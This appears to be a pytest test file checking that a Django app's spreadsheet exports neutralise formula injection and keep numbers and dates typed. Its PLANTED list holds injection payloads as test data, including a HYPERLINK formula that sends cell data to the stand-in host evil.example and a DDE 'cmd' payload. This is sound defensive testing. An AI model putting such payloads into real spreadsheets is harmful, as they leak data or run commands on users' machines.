"""Every export writes user text as inert text (formula injection), and keeps numbers and dates typed."""

import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from billing import services as billing
from conac.spreadsheets import SheetWriter, neutralise
from registry.models import Office, Unit
from tests import factories

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A2,"点击核对")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB开头",
    "\r回车开头",
]


def _cells(data):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [[(cell.value, cell.data_type) for cell in row] for row in workbook.active.iter_rows()]


@pytest.mark.parametrize("text", PLANTED)
def test_neutralise_prefixes_every_formula_trigger(text):
    assert neutralise(text) == "'" + text
    assert neutralise("北京市海淀区") == "北京市海淀区"


def test_the_writer_keeps_numbers_and_dates_typed_and_text_inert():
    with SheetWriter("测试", ["文本", "数字", "日期", "时间"]) as sheet:
        for text in PLANTED:
            sheet.append([text, -12.5, datetime.date(2026, 1, 2), datetime.datetime(2026, 1, 2, 3, 4, 5)])
    rows = _cells(sheet.file.read())
    assert [value for value, _ in rows[0]] == ["文本", "数字", "日期", "时间"]
    for text, row in zip(PLANTED, rows[1:], strict=True):
        (value, kind), (number, number_kind), (day, _), (moment, _) = row
        # A string, never a formula ("f"); xlsx stores a carriage return as _x000D_.
        assert kind == "s" and value.replace("_x000D_", "\r") == "'" + text
        assert number == -12.5 and number_kind == "n"
        assert day == datetime.datetime(2026, 1, 2) and moment == datetime.datetime(2026, 1, 2, 3, 4, 5)


def test_domain_search_export_writes_a_planted_unit_name_as_text(client_for, unit, office_user):
    Unit.objects.filter(pk=unit.pk).update(name=PLANTED[0])
    factories.make_domain(unit, "注入测试", status="active", expires_on=datetime.date(2027, 1, 1))
    response = client_for(office_user).get(reverse("registry:domain-export"), {"domain": "注入测试"})
    rows = _cells(b"".join(response.streaming_content))
    unit_cell = rows[1][2]
    assert unit_cell == ("'" + PLANTED[0], "s")
    assert rows[1][7] == (datetime.datetime(2027, 1, 1), "d")


def test_reconciliation_export_writes_a_planted_office_name_as_text(client_for, conac_user, office_user):
    # A remittance puts the office on the report.
    billing.register_remittance(
        office_user.office, amount="100.00", remitted_on=datetime.date(2026, 1, 5), voucher_no="ZR-1", actor=office_user
    )
    Office.objects.filter(pk=office_user.office_id).update(name=PLANTED[3])
    response = client_for(conac_user).get(reverse("billing:reconciliation-export"))
    rows = _cells(b"".join(response.streaming_content))
    names = [row[1] for row in rows[1:]]
    assert ("'" + PLANTED[3], "s") in names
    assert all(kind != "f" for row in rows for _, kind in row)
